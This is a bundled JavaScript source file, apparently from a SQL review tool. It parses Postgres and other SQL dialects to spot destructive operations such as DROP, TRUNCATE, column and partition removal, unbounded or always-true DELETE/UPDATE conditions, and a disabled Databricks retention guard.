import { createRequire as __twoKeyCreateRequire } from 'node:module';
import { fileURLToPath as __twoKeyFileURLToPath } from 'node:url';
import { dirname as __twoKeyDirname } from 'node:path';
const require = __twoKeyCreateRequire(import.meta.url);
const __filename = __twoKeyFileURLToPath(import.meta.url);
const __dirname = __twoKeyDirname(__filename);
import {
  SqlLexer,
  keywordForm,
  tokenize
} from "./chunk-PO5BOZ4F.js";
import {
  recordSqlAnalysis
} from "./chunk-O5EZW7AY.js";
import {
  PgSyntaxError,
  loadPostgresParser,
  parsePlPgSql,
  parsePostgres
} from "./chunk-25IFS2WD.js";
import {
  isTestDatabase
} from "./chunk-UD7HIGTY.js";
import {
  runRules
} from "./chunk-4LQS2QJQ.js";
import {
  readsSql,
  sniffDialect
} from "./chunk-7HYHVU3F.js";
import {
  isProductionName
} from "./chunk-MC2PQM5U.js";
import {
  sqlDialectFor
} from "./chunk-PGE7O3DA.js";
import {
  LineIndex
} from "./chunk-O3AVP3WD.js";

// src/core/sql-operations.ts
function shiftOperation(op, by) {
  const span = { start: op.span.start + by, end: op.span.end + by };
  return op.op === "define-routine" ? { ...op, span, body: { start: op.body.start + by, end: op.body.end + by } } : { ...op, span };
}

// src/parsers/sql/pg-ast.ts
function nodeType(node) {
  if (!node || typeof node !== "object" || Array.isArray(node)) return void 0;
  let type;
  for (const key in node) {
    if (type !== void 0) return void 0;
    type = key;
  }
  if (type === void 0) return void 0;
  const fields = node[type];
  return fields && typeof fields === "object" ? type : void 0;
}
function fieldsOf(node, type) {
  return nodeType(node) === type ? node[type] : void 0;
}
function list(value) {
  return Array.isArray(value) ? value : [];
}
function str(value) {
  return typeof value === "string" ? value : void 0;
}
function num(value) {
  return typeof value === "number" ? value : void 0;
}
function stringsOf(node) {
  const s = fieldsOf(node, "String");
  if (s) return [str(s.sval) ?? ""];
  const l = fieldsOf(node, "List");
  if (l) return list(l.items).flatMap(stringsOf);
  const owa = fieldsOf(node, "ObjectWithArgs");
  if (owa) return list(owa.objname).flatMap(stringsOf);
  const tn = fieldsOf(node, "TypeName");
  if (tn) return list(tn.names).flatMap(stringsOf);
  return [];
}
function rangeVarName(rangeVar) {
  if (!rangeVar) return [];
  return [str(rangeVar.catalogname), str(rangeVar.schemaname), str(rangeVar.relname)].filter(
    (p) => p !== void 0
  );
}
function walk(node, visit) {
  if (Array.isArray(node)) {
    for (const child of node) walk(child, visit);
    return;
  }
  if (!node || typeof node !== "object") return;
  const type = nodeType(node);
  const fields = type === void 0 ? void 0 : node[type];
  if (fields && visit(type, fields) === false) return;
  if (!fields && typeof node.relname === "string" && visit("RangeVar", node) === false) return;
  const inner = fields ?? node;
  for (const key in inner) {
    const value = inner[key];
    if (value && typeof value === "object") walk(value, visit);
  }
}
function typeNameText(typeName) {
  if (!typeName) return "";
  const names = list(typeName.names).flatMap(stringsOf).filter((n) => n !== "pg_catalog");
  const mods = list(typeName.typmods).map((m) => constValue(m)).filter((v) => v !== void 0);
  const base = (names.at(-1) ?? "").toLowerCase();
  return mods.length ? `${base}(${mods.join(",")})` : base;
}
function constValue(node) {
  const cast = fieldsOf(node, "TypeCast");
  if (cast) return constValue(cast.arg);
  const c = fieldsOf(node, "A_Const");
  if (!c) return void 0;
  if (c.isnull) return "null";
  const inner = (key) => c[key][key];
  if (c.ival !== void 0) return String(num(inner("ival")) ?? 0);
  if (c.fval !== void 0) return String(Number(str(inner("fval")) ?? 0));
  if (c.boolval !== void 0) return inner("boolval") ? "true" : "false";
  if (c.sval !== void 0) return `'${str(inner("sval")) ?? ""}'`;
  return void 0;
}

// src/parsers/sql/pg-tautology.ts
function isTautology(node) {
  const value = constValue(node);
  if (value !== void 0) return value === "true" || /^-?\d+(\.\d+)?$/.test(value) && Number(value) !== 0;
  const bool = fieldsOf(node, "BoolExpr");
  if (bool) {
    const args = list(bool.args);
    if (bool.boolop === "OR_EXPR") return args.some(isTautology);
    if (bool.boolop === "AND_EXPR") return args.every(isTautology);
    if (bool.boolop === "NOT_EXPR") return args.length === 1 && isContradiction(args[0]);
  }
  const expr = fieldsOf(node, "A_Expr");
  if (expr && expr.kind === "AEXPR_OP") return compare(operator(expr), expr.lexpr, expr.rexpr) === true;
  return false;
}
function isContradiction(node) {
  const value = constValue(node);
  if (value !== void 0) return value === "false" || value === "0" || value === "null";
  const expr = fieldsOf(node, "A_Expr");
  if (expr && expr.kind === "AEXPR_OP") return compare(operator(expr), expr.lexpr, expr.rexpr) === false;
  return false;
}
function operator(expr) {
  return list(expr.name).flatMap(stringsOf).at(-1) ?? "";
}
function compare(op, left, right) {
  const a = constValue(left) ?? columnKey(left);
  const b = constValue(right) ?? columnKey(right);
  if (a === void 0 || b === void 0) return void 0;
  const bothColumns = a.startsWith("col:") && b.startsWith("col:");
  if ((a.startsWith("col:") || b.startsWith("col:")) && !bothColumns) return void 0;
  if (bothColumns) return a === b && (op === "=" || op === ">=" || op === "<=") ? true : void 0;
  const numeric = /^-?\d+(\.\d+)?$/;
  const [x, y] = numeric.test(a) && numeric.test(b) ? [Number(a), Number(b)] : [a, b];
  switch (op) {
    case "=":
      return x === y;
    case "<>":
    case "!=":
      return x !== y;
    case "<":
      return x < y;
    case ">":
      return x > y;
    case "<=":
      return x <= y;
    case ">=":
      return x >= y;
    default:
      return void 0;
  }
}
function columnKey(node) {
  const ref = fieldsOf(node, "ColumnRef");
  if (!ref) return void 0;
  return "col:" + list(ref.fields).map((f) => str(fieldsOf(f, "String")?.sval) ?? "*").join(".");
}

// src/parsers/sql/pg-operations.ts
var DROP_TYPES = {
  OBJECT_TABLE: "table",
  OBJECT_FOREIGN_TABLE: "table",
  OBJECT_SCHEMA: "schema",
  OBJECT_VIEW: "view",
  OBJECT_MATVIEW: "materialized-view",
  OBJECT_INDEX: "index",
  OBJECT_SEQUENCE: "sequence",
  OBJECT_FUNCTION: "function",
  OBJECT_PROCEDURE: "function",
  OBJECT_ROUTINE: "function",
  OBJECT_TYPE: "type",
  OBJECT_DOMAIN: "type",
  OBJECT_EXTENSION: "extension",
  OBJECT_TRIGGER: "trigger"
};
function pgOperations(stmt, ctx) {
  const ops = [];
  walk(stmt, (type, fields) => {
    const handler = HANDLERS[type];
    if (handler) ops.push(...handler(fields, ctx));
    if (type === "RangeVar") {
      ops.push({ op: "reference", name: rangeVarName(fields), span: nameSpan(ctx, fields.location) });
    }
  });
  return ops;
}
var HANDLERS = {
  DropStmt(f, ctx) {
    const objectType = DROP_TYPES[str(f.removeType) ?? ""] ?? "other";
    const names = list(f.objects).map((o) => stringsOf(o));
    const cascade = f.behavior === "DROP_CASCADE";
    const span = keywordSpan(ctx, ["DROP"]);
    const references = names.map((name) => ({ op: "reference", name, span }));
    return [{ op: "drop", objectType, names, temporary: false, cascade, span }, ...references];
  },
  DropdbStmt(f, ctx) {
    const name = [str(f.dbname) ?? ""];
    return [
      {
        op: "drop",
        objectType: "database",
        names: [name],
        temporary: false,
        cascade: false,
        span: keywordSpan(ctx, ["DROP"])
      }
    ];
  },
  DropOwnedStmt(f, ctx) {
    const roles = list(f.roles).map((r) => str(fieldsOf(r, "RoleSpec")?.rolename) ?? "CURRENT_USER");
    return [{ op: "drop-owned", roles, span: keywordSpan(ctx, ["DROP"]) }];
  },
  ReassignOwnedStmt(f, ctx) {
    const roles = list(f.roles).map((r) => str(fieldsOf(r, "RoleSpec")?.rolename) ?? "CURRENT_USER");
    return [{ op: "reassign-owned", roles, span: keywordSpan(ctx, ["REASSIGN"]) }];
  },
  TruncateStmt(f, ctx) {
    const relations = list(f.relations).map((r) => fieldsOf(r, "RangeVar"));
    const at = ctx.locate(Number(relations[0]?.location ?? 0));
    return [{ op: "truncate", tables: relations.map(rangeVarName), span: keywordBefore(ctx, at, ["TRUNCATE"]) }];
  },
  /** Databricks `SET spark.databricks.delta.retentionDurationCheck.enabled = false` is valid Postgres syntax. */
  VariableSetStmt(f, ctx) {
    const name = str(f.name)?.toLowerCase() ?? "";
    const last = ctx.tokens.at(-1);
    if (!name.endsWith(".retentiondurationcheck.enabled") || (last?.value ?? last?.text)?.toLowerCase() !== "false") {
      return [];
    }
    const setting = "delta.retentionDurationCheck.enabled = false (the guard on short VACUUM retention)";
    return [{ op: "history-off", target: [], setting, span: keywordSpan(ctx, ["SET"]) }];
  },
  DeleteStmt(f, ctx) {
    return [rowChange("delete", f, ctx)];
  },
  UpdateStmt(f, ctx) {
    return [rowChange("update", f, ctx)];
  },
  AlterTableStmt(f, ctx) {
    if (f.objtype !== "OBJECT_TABLE" && f.objtype !== void 0) return [];
    const relation = fieldsOf({ RangeVar: f.relation }, "RangeVar");
    const table = rangeVarName(relation);
    const clauses = alterClauses(ctx, ctx.locate(Number(relation?.location ?? 0)));
    return list(f.cmds).flatMap((cmd, i) => alterCommand(fieldsOf(cmd, "AlterTableCmd") ?? {}, table, clauses[i], ctx));
  },
  RenameStmt(f, ctx) {
    const table = rangeVarName(fieldsOf({ RangeVar: f.relation }, "RangeVar"));
    const span = keywordSpan(ctx, ["RENAME"]);
    if (f.renameType === "OBJECT_TABLE") return [{ op: "rename-table", from: table, to: str(f.newname) ?? "", span }];
    if (f.renameType === "OBJECT_COLUMN") {
      return [{ op: "rename-column", table, from: str(f.subname) ?? "", to: str(f.newname) ?? "", span }];
    }
    return [];
  },
  CreateStmt(f, ctx) {
    const relation = fieldsOf({ RangeVar: f.relation }, "RangeVar");
    const columns = list(f.tableElts).map((e) => fieldsOf(e, "ColumnDef")).filter((c) => c !== void 0).map((c) => ({
      name: str(c.colname) ?? "",
      type: typeNameText(fieldsOf({ TypeName: c.typeName }, "TypeName")),
      ...list(c.constraints).some((k) => fieldsOf(k, "Constraint")?.contype === "CONSTR_GENERATED") ? { generated: true } : {}
    }));
    const temporary = relation?.relpersistence === "t";
    const ifNotExists = f.if_not_exists === true ? { ifNotExists: true } : {};
    return [{ op: "create-table", name: rangeVarName(relation), temporary, columns, span: ctx.span, ...ifNotExists }];
  },
  CreateTableAsStmt(f, ctx) {
    const into = fieldsOf({ IntoClause: f.into }, "IntoClause");
    const relation = fieldsOf({ RangeVar: into?.rel }, "RangeVar");
    const temporary = relation?.relpersistence === "t";
    const ifNotExists = f.if_not_exists === true ? { ifNotExists: true } : {};
    return [
      { op: "create-table", name: rangeVarName(relation), temporary, columns: [], span: ctx.span, ...ifNotExists }
    ];
  },
  CallStmt(f, ctx) {
    const call = fieldsOf({ FuncCall: f.funccall }, "FuncCall");
    return [{ op: "call", name: list(call?.funcname).flatMap(stringsOf), span: keywordSpan(ctx, ["CALL"]) }];
  },
  FuncCall(f, ctx) {
    return [{ op: "call", name: list(f.funcname).flatMap(stringsOf), span: nameSpan(ctx, f.location) }];
  },
  DoStmt(f, ctx) {
    const body = routineBody(f.args);
    if (body === void 0) return [];
    const at = ctx.text.indexOf(body, ctx.span.start);
    if (at < 0) return [];
    const prefix = "CREATE FUNCTION pg_temp.two_key_do() RETURNS void LANGUAGE plpgsql AS $two_key$";
    return ctx.readPlpgsql(`${prefix}${body}$two_key$`, at - prefix.length);
  },
  CreateFunctionStmt(f, ctx) {
    const name = list(f.funcname).flatMap(stringsOf);
    const body = routineBody(f.options);
    const language = routineLanguage(f.options);
    const define = { op: "define-routine", name, span: ctx.span, body: ctx.span };
    if (body === void 0) return [define];
    const at = ctx.text.indexOf(body, ctx.span.start);
    if (at < 0) return [define];
    if (language === "plpgsql") {
      return [define, ...ctx.readPlpgsql(ctx.text.slice(ctx.span.start, ctx.span.end), ctx.span.start)];
    }
    if (language === "sql") return [define, ...ctx.readEmbedded(body, at)];
    return [define];
  }
};
function rowChange(op, f, ctx) {
  const relation = fieldsOf({ RangeVar: f.relation }, "RangeVar");
  const at = ctx.locate(Number(relation?.location ?? 0));
  const where = f.whereClause === void 0 ? "none" : isTautology(f.whereClause) ? "tautology" : "bounded";
  return { op, table: rangeVarName(relation), where, span: keywordBefore(ctx, at, [op.toUpperCase()]) };
}
function alterCommand(cmd, table, clause, ctx) {
  const span = clause ?? ctx.span;
  switch (cmd.subtype) {
    case "AT_DropColumn":
      return [{ op: "drop-column", table, column: str(cmd.name) ?? "", span: firstToken(ctx, span) }];
    case "AT_AlterColumnType": {
      const def = fieldsOf(cmd.def, "ColumnDef");
      const newType = typeNameText(fieldsOf({ TypeName: def?.typeName }, "TypeName"));
      const using = def?.raw_default === void 0 ? void 0 : usingText(ctx, span);
      return [
        { op: "alter-column-type", table, column: str(cmd.name) ?? "", newType, using, span: firstToken(ctx, span) }
      ];
    }
    // FINALIZE completes a CONCURRENTLY detach that was interrupted: the rows leave all the same.
    case "AT_DetachPartition":
    case "AT_DetachPartitionFinalize": {
      const partition = fieldsOf({ RangeVar: fieldsOf(cmd.def, "PartitionCmd")?.name }, "RangeVar");
      const partitions = [rangeVarName(partition).join(".")];
      return [{ op: "drop-partition", table, partitions, detach: true, span: firstToken(ctx, span) }];
    }
    default:
      return [];
  }
}
function routineBody(options) {
  for (const option of list(options)) {
    const def = fieldsOf(option, "DefElem");
    if (def?.defname === "as") return stringsOf(def.arg)[0] ?? str(fieldsOf(def.arg, "String")?.sval);
  }
  return void 0;
}
function routineLanguage(options) {
  for (const option of list(options)) {
    const def = fieldsOf(option, "DefElem");
    if (def?.defname === "language") return (stringsOf(def.arg)[0] ?? "").toLowerCase();
  }
  return "sql";
}
function alterClauses(ctx, relationAt) {
  const tokens = ctx.tokens;
  let i = tokens.findIndex((t) => t.start >= relationAt);
  if (i < 0) return [];
  i++;
  while (tokens[i]?.text === "." || tokens[i - 1]?.text === ".") i++;
  if (tokens[i]?.text === "*") i++;
  const clauses = [];
  let depth = 0;
  let start = tokens[i]?.start;
  for (; i < tokens.length; i++) {
    const t = tokens[i];
    if (t.text === "(") depth++;
    else if (t.text === ")") depth--;
    else if (depth === 0 && (t.text === "," || t.text === ";")) {
      if (start !== void 0) clauses.push({ start, end: t.start });
      start = tokens[i + 1]?.start;
      if (t.text === ";") break;
    }
  }
  if (start !== void 0 && start < ctx.span.end) clauses.push({ start, end: ctx.span.end });
  return clauses;
}
function usingText(ctx, clause) {
  const using = ctx.tokens.find((t) => t.start >= clause.start && t.start < clause.end && t.upper === "USING");
  return using ? ctx.text.slice(using.end, clause.end).trim() : void 0;
}
function firstToken(ctx, within) {
  const t = ctx.tokens.find((tok) => tok.start >= within.start && tok.start < within.end);
  return t ? { start: t.start, end: t.end } : within;
}
function keywordSpan(ctx, words) {
  const t = ctx.tokens.find((tok) => tok.upper !== void 0 && words.includes(tok.upper));
  return t ? { start: t.start, end: t.end } : firstToken(ctx, ctx.span);
}
function keywordBefore(ctx, at, words) {
  for (let i = ctx.tokens.length - 1; i >= 0; i--) {
    const t = ctx.tokens[i];
    if (t.start <= at && t.upper !== void 0 && words.includes(t.upper)) return { start: t.start, end: t.end };
  }
  return keywordSpan(ctx, words);
}
function nameSpan(ctx, location) {
  const at = ctx.locate(Number(location ?? 0));
  const t = ctx.tokens.find((tok) => tok.start >= at);
  return t ? { start: t.start, end: t.end } : ctx.span;
}

// src/parsers/sql/recognise-scan.ts
function wordSet(words) {
  return new Set(words.trim().split(/\s+/));
}
var STATEMENT_STARTS = wordSet(`
  SELECT MERGE DROP CREATE ALTER TRUNCATE EXEC EXECUTE DECLARE ELSE ELSEIF END BEGIN PRINT RETURN GO
  COMMIT ROLLBACK WHILE RAISERROR THROW GRANT REVOKE CALL PREPARE DEALLOCATE OPEN CLOSE FETCH LEAVE
  ITERATE SIGNAL RESIGNAL WAITFOR BREAK CONTINUE GOTO
`);
var NOT_A_STATEMENT_AFTER = wordSet("ON BEFORE AFTER OR OF FOR KEY DO GRANT REVOKE");
var Scan = class {
  constructor(tokens, text, dialect, context, readSql) {
    this.tokens = tokens;
    this.text = text;
    this.dialect = dialect;
    this.context = context;
    this.readSql = readSql;
    this.partners = matchParentheses(tokens);
  }
  tokens;
  text;
  dialect;
  context;
  readSql;
  ops = [];
  /** DROP and TRUNCATE keywords already read as clauses of an ALTER TABLE. */
  claimed = /* @__PURE__ */ new Set();
  /** The table of the last ALTER TABLE, for a DROP COLUMN read out of its context. */
  lastAlterTable;
  /** Tokens before this index were read as part of a string built from literals. */
  foldedUntil = 0;
  partners;
  get length() {
    return this.tokens.length;
  }
  at(i) {
    return this.tokens[i];
  }
  /** The keyword form of the word at `i`, or '' for anything else. */
  upper(i) {
    const t = this.tokens[i];
    return t?.kind === "word" ? t.upper : "";
  }
  isWord(i, ...words) {
    const word2 = this.upper(i);
    return word2 !== "" && words.includes(word2);
  }
  isPunct(i, punct) {
    const t = this.tokens[i];
    return t?.kind === "punct" && t.text === punct;
  }
  isOp(i, ...ops) {
    const t = this.tokens[i];
    return t?.kind === "op" && ops.includes(t.text);
  }
  isKind(i, ...kinds) {
    const t = this.tokens[i];
    return t !== void 0 && kinds.includes(t.kind);
  }
  /** The matching parenthesis of the one at `i`, or -1. */
  partner(i) {
    return this.partners[i] ?? -1;
  }
  /** The index after the token at `i`, or after its whole parenthesised group. */
  after(i) {
    const close = this.isPunct(i, "(") ? this.partner(i) : -1;
    return close > i ? close + 1 : i + 1;
  }
  span(i) {
    const t = this.tokens[i];
    return t ? { start: t.start, end: t.end } : { start: 0, end: 0 };
  }
  /** The span from token `from` to the token before `to`. */
  spanOf(from, to) {
    const first = this.tokens[from];
    const last = this.tokens[Math.max(from, to - 1)];
    if (!first || !last) return this.span(from);
    return { start: first.start, end: last.end };
  }
  source(from, to) {
    if (to <= from) return "";
    const span = this.spanOf(from, to);
    return this.text.slice(span.start, span.end);
  }
  emit(op) {
    this.ops.push(op);
  }
  reference(name) {
    this.ops.push({ op: "reference", name: name.parts, span: name.span });
  }
  /** An identifier's value: a word as written, a quoted identifier unquoted. */
  identifier(i) {
    const t = this.tokens[i];
    if (t?.kind === "word") return t.text;
    if (t?.kind === "quoted-ident") return t.value;
    return void 0;
  }
  /** A possibly qualified name at `i`: `db.schema.t`, `[dbo].[t]`, `@tableVar`, BigQuery `p-1.ds.t`. */
  readName(i) {
    const first = this.tokens[i];
    if (!first) return void 0;
    if (first.kind === "variable") return { parts: [first.text], end: i + 1, span: this.span(i) };
    if (first.kind !== "word" && first.kind !== "quoted-ident") return void 0;
    return this.dialect === "bigquery" ? this.readBigQueryName(i) : this.readDottedName(i);
  }
  readDottedName(i) {
    const parts = [this.identifier(i)];
    let j = i + 1;
    while (this.isPunct(j, ".")) {
      if (this.isPunct(j + 1, ".")) {
        j++;
        continue;
      }
      const part = this.identifier(j + 1);
      if (part === void 0) break;
      parts.push(part);
      j += 2;
    }
    return { parts, end: j, span: this.spanOf(i, j) };
  }
  /** BigQuery joins touching pieces (`acme-prod.events`) and splits dotted names inside backticks. */
  readBigQueryName(i) {
    let j = i + 1;
    while (j < this.tokens.length && this.tokens[j].start === this.tokens[j - 1].end && this.namePiece(j)) j++;
    while (j > i + 1 && (this.isPunct(j - 1, ".") || this.isOp(j - 1, "-"))) j--;
    const parts = [""];
    for (let k = i; k < j; k++) {
      const t = this.tokens[k];
      const pieces = (t.kind === "quoted-ident" ? t.value : t.text).split(".");
      parts[parts.length - 1] += pieces[0];
      parts.push(...pieces.slice(1));
    }
    return { parts: parts.filter((p) => p !== ""), end: j, span: this.spanOf(i, j) };
  }
  namePiece(j) {
    return this.isKind(j, "word", "quoted-ident", "number") || this.isPunct(j, ".") || this.isOp(j, "-");
  }
  /**
   * Where the statement at `from` ends: its `;`, the `)` around it, or the next statement's first
   * word. `setEnds` makes SET a new statement (it is not, right after UPDATE's target).
   */
  statementEnd(from, setEnds) {
    return this.scanTo(from + 1, (i) => this.startsStatement(i, setEnds));
  }
  /** The end of an expression at `from`: a `,` or whatever ends a statement. */
  expressionEnd(from, ...stopWords) {
    return this.scanTo(
      from,
      (i) => this.isPunct(i, ",") || this.isWord(i, ...stopWords) || this.startsStatement(i, true)
    );
  }
  /**
   * The first index from `from` at this parenthesis level where `stop` holds, or that closes the
   * level (`)`, `;`). Parenthesised groups and CASE ... END are stepped over whole.
   */
  scanTo(from, stop) {
    let caseDepth = 0;
    let i = from;
    while (i < this.tokens.length) {
      const t = this.tokens[i];
      if (t.kind === "punct" && (t.text === ")" || t.text === ";")) return i;
      if (t.kind === "punct" && t.text === "(") {
        i = this.after(i);
        continue;
      }
      if (t.upper === "CASE") caseDepth++;
      else if (t.upper === "END" && caseDepth > 0) caseDepth--;
      else if (caseDepth === 0 && stop(i)) return i;
      i++;
    }
    return i;
  }
  startsStatement(i, setEnds) {
    const word2 = this.upper(i);
    switch (word2) {
      case "":
        return false;
      case "SET":
        return setEnds;
      case "IF":
        return !this.isDdlIfExists(i);
      case "UPDATE":
      case "DELETE":
      case "INSERT":
        return !NOT_A_STATEMENT_AFTER.has(this.upper(i - 1));
      case "REPLACE":
        return this.isWord(i + 1, "INTO");
      case "RENAME":
        return this.isWord(i + 1, "TABLE");
      default:
        return STATEMENT_STARTS.has(word2);
    }
  }
  /** `IF [NOT] EXISTS name` of DDL, as opposed to T-SQL's `IF NOT EXISTS (SELECT ...)`. */
  isDdlIfExists(i) {
    const exists = this.isWord(i + 1, "NOT") ? i + 2 : i + 1;
    return this.isWord(exists, "EXISTS") && !this.isPunct(exists + 1, "(");
  }
  /** Index after `IF EXISTS` / `IF NOT EXISTS` at `i`, or `i`. */
  skipIfExists(i) {
    if (this.isWord(i, "IF") && this.isWord(i + 1, "EXISTS")) return i + 2;
    if (this.isWord(i, "IF") && this.isWord(i + 1, "NOT") && this.isWord(i + 2, "EXISTS")) return i + 3;
    return i;
  }
};
function matchParentheses(tokens) {
  const partners = new Int32Array(tokens.length).fill(-1);
  const open = [];
  tokens.forEach((t, i) => {
    if (t.kind !== "punct") return;
    if (t.text === "(") open.push(i);
    else if (t.text === ")" && open.length) {
      const o = open.pop();
      partners[o] = i;
      partners[i] = o;
    }
  });
  return partners;
}
function literalLocator(token) {
  const whole = { start: token.start, end: token.end };
  const start = token.contentStart;
  const end = token.contentEnd;
  if (start === void 0 || end === void 0 || end - start !== token.value.length) return () => whole;
  return (inner) => ({ start: start + inner.start, end: start + inner.end });
}
function relocate(ops, locate) {
  return ops.map((op) => ({ ...op, span: locate(op.span) }));
}

// src/parsers/sql/recognise-type.ts
var TYPE_CONTINUATIONS = wordSet(`
  VARYING PRECISION WITH WITHOUT TIME ZONE LOCAL UNSIGNED SIGNED ZEROFILL VARCHAR CHAR CHARACTER
  VARBINARY ARRAY DAY HOUR MINUTE SECOND MONTH YEAR TO LARGE OBJECT
`);
var NOT_A_TYPE = wordSet("NOT NULL PRIMARY DEFAULT REFERENCES CHECK UNIQUE CONSTRAINT GENERATED AS COLLATE");
function readType(scan, i, limit) {
  const name = i < limit && !NOT_A_TYPE.has(scan.upper(i)) ? scan.readName(i) : void 0;
  if (!name || scan.isKind(i, "variable")) return { text: "", end: i };
  let text = name.parts.join(".").toLowerCase();
  let j = name.end;
  while (j < limit) {
    if (scan.isPunct(j, "(") && scan.partner(j) > j) {
      text += `(${compact(scan, j + 1, scan.partner(j))})`;
      j = scan.partner(j) + 1;
    } else if (scan.isOp(j, "<") && /(array|struct|range|map)$/.test(text)) {
      const close = angleEnd(scan, j, limit);
      text += compact(scan, j, close);
      j = close;
    } else if (scan.isOp(j, "[") && (scan.isOp(j + 1, "]") || scan.isOp(j + 2, "]"))) {
      const close = scan.isOp(j + 1, "]") ? j + 1 : j + 2;
      text += compact(scan, j, close + 1);
      j = close + 1;
    } else if (continuesType(scan, j)) {
      text += ` ${scan.tokens[j].text.toLowerCase()}`;
      j++;
    } else {
      break;
    }
  }
  return { text, end: j };
}
function continuesType(scan, j) {
  const word2 = scan.upper(j);
  if (!TYPE_CONTINUATIONS.has(word2)) return false;
  if (word2 === "CHARACTER") return !scan.isWord(j + 1, "SET");
  if (word2 === "WITH") return scan.isWord(j + 1, "TIME", "LOCAL");
  return true;
}
function angleEnd(scan, open, limit) {
  let depth = 0;
  for (let j = open; j < limit; j++) {
    const t = scan.tokens[j];
    if (t.kind === "punct" && (t.text === ";" || t.text === ")")) return j;
    if (t.kind !== "op") continue;
    if (t.text === "<") depth++;
    else if (t.text === ">") depth--;
    else if (t.text === ">>") depth -= 2;
    if (depth <= 0) return j + 1;
  }
  return limit;
}
function compact(scan, from, to) {
  let out = "";
  for (let j = from; j < to; j++) {
    const t = scan.tokens[j];
    const prev = scan.tokens[j - 1];
    if (j > from && prev && isWordy(prev) && isWordy(t)) out += " ";
    out += t.text.toLowerCase();
  }
  return out;
}
function isWordy(t) {
  return t.kind === "word" || t.kind === "number" || t.kind === "quoted-ident";
}

// src/parsers/sql/recognise-where.ts
var COMPARISONS = /* @__PURE__ */ new Set(["=", "==", "<=>", "<>", "!=", "<", ">", "<=", ">=", "!<", "!>"]);
var MAX_NESTING = 32;
function conditionTruth(scan, from, to) {
  return evaluate(scan, from, to, 0);
}
function evaluate(scan, from, to, depth) {
  if (from >= to || depth > MAX_NESTING) return void 0;
  const ors = splitTop(scan, from, to, (k) => scan.isWord(k, "OR") || scan.dialect === "mysql" && scan.isOp(k, "||"));
  if (ors.length > 1) return any(ors.map(([a, b]) => evaluate(scan, a, b, depth + 1)));
  const ands = splitAnd(scan, from, to);
  if (ands.length > 1) return all(ands.map(([a, b]) => evaluate(scan, a, b, depth + 1)));
  if (scan.isWord(from, "NOT")) return negate(evaluate(scan, from + 1, to, depth + 1));
  if (scan.isPunct(from, "(") && scan.partner(from) === to - 1) return evaluate(scan, from + 1, to - 1, depth + 1);
  return atom(scan, from, to);
}
function splitTop(scan, from, to, isSeparator) {
  const parts = [];
  let start = from;
  for (let k = scan.scanTo(from, (j) => j >= to || isSeparator(j)); k < to; ) {
    parts.push([start, k]);
    start = k + 1;
    k = scan.scanTo(start, (j) => j >= to || isSeparator(j));
  }
  parts.push([start, to]);
  return parts;
}
function splitAnd(scan, from, to) {
  let between = false;
  return splitTop(scan, from, to, (k) => {
    if (scan.isWord(k, "BETWEEN")) between = true;
    const and = scan.isWord(k, "AND") || scan.dialect === "mysql" && scan.isOp(k, "&&");
    if (!and) return false;
    if (!between) return true;
    between = false;
    return false;
  });
}
function atom(scan, from, to) {
  if (to - from === 1) return single(scan.at(from));
  const comparison = scan.scanTo(from, (k) => k >= to || COMPARISONS.has(opText(scan, k)));
  if (comparison < to && comparison > from) return compare2(scan, opText(scan, comparison), from, comparison, to);
  if (scan.isWord(to - 1, "NULL") && scan.isWord(to - 2, "IS", "NOT")) return nullTest(scan, from, to);
  if (scan.isWord(from + 1, "LIKE") && to - from === 3) {
    const pattern = scan.at(from + 2);
    return pattern.kind === "string" && /^%+$/.test(pattern.value) ? true : void 0;
  }
  return void 0;
}
function single(t) {
  if (t.kind === "word" && (t.upper === "TRUE" || t.upper === "FALSE")) return t.upper === "TRUE";
  if (t.kind === "number") return Number(t.text) !== 0;
  return void 0;
}
function compare2(scan, op, from, at, to) {
  const left = literal(scan, from, at);
  const right = literal(scan, at + 1, to);
  if (left && right) return compareLiterals(op, left, right);
  if (!sameTokens(scan, from, at, at + 1, to)) return void 0;
  if (["=", "==", "<=>", "<=", ">=", "!<", "!>"].includes(op)) return true;
  return false;
}
function compareLiterals(op, left, right) {
  if (left.kind === "null" || right.kind === "null") return op === "<=>" ? left.kind === right.kind : false;
  const numeric = left.kind === "number" || right.kind === "number";
  const x = numeric ? Number(left.value) : left.value;
  const y = numeric ? Number(right.value) : right.value;
  if (Number.isNaN(x) || Number.isNaN(y)) return void 0;
  if (!numeric && x !== y && String(x).toLowerCase() === String(y).toLowerCase()) return void 0;
  return ORDERINGS[op]?.(x, y);
}
var ORDERINGS = {
  "=": (x, y) => x === y,
  "==": (x, y) => x === y,
  "<=>": (x, y) => x === y,
  "<>": (x, y) => x !== y,
  "!=": (x, y) => x !== y,
  "<": (x, y) => x < y,
  ">": (x, y) => x > y,
  "<=": (x, y) => x <= y,
  ">=": (x, y) => x >= y,
  "!<": (x, y) => x >= y,
  "!>": (x, y) => x <= y
};
function literal(scan, from, to) {
  if (scan.isPunct(from, "(") && scan.partner(from) === to - 1) return literal(scan, from + 1, to - 1);
  if (to - from === 2 && scan.isOp(from, "-") && scan.isKind(from + 1, "number")) {
    return { kind: "number", value: -Number(scan.at(from + 1).text) };
  }
  if (to - from !== 1) return void 0;
  const t = scan.at(from);
  if (t.kind === "number") return { kind: "number", value: Number(t.text) };
  if (t.kind === "string") return { kind: "string", value: t.value };
  if (t.upper === "TRUE" || t.upper === "FALSE") return { kind: "number", value: t.upper === "TRUE" ? 1 : 0 };
  if (t.upper === "NULL") return { kind: "null" };
  return void 0;
}
function nullTest(scan, from, to) {
  const not = scan.isWord(to - 2, "NOT");
  const subjectEnd = not ? to - 3 : to - 2;
  if (!scan.isWord(subjectEnd, "IS")) return void 0;
  const subject = literal(scan, from, subjectEnd);
  if (!subject) return void 0;
  return subject.kind === "null" !== not;
}
function sameTokens(scan, a, aEnd, b, bEnd) {
  if (aEnd - a !== bEnd - b || aEnd <= a) return false;
  for (let k = 0; k < aEnd - a; k++) {
    const x = scan.at(a + k);
    const y = scan.at(b + k);
    if (x.kind !== y.kind || (x.kind === "word" ? x.upper !== y.upper : x.value !== y.value)) return false;
  }
  return true;
}
function opText(scan, k) {
  const t = scan.at(k);
  return t?.kind === "op" ? t.text : "";
}
function any(values) {
  if (values.includes(true)) return true;
  return values.every((v) => v === false) ? false : void 0;
}
function all(values) {
  if (values.includes(false)) return false;
  return values.every((v) => v === true) ? true : void 0;
}
function negate(value) {
  return value === void 0 ? void 0 : !value;
}

// src/parsers/sql/recognise-dml.ts
var NOT_A_DELETE_BEFORE = /* @__PURE__ */ new Set(["ON", "WHEN", "AS", "TO", "OUTPUT", "END"]);
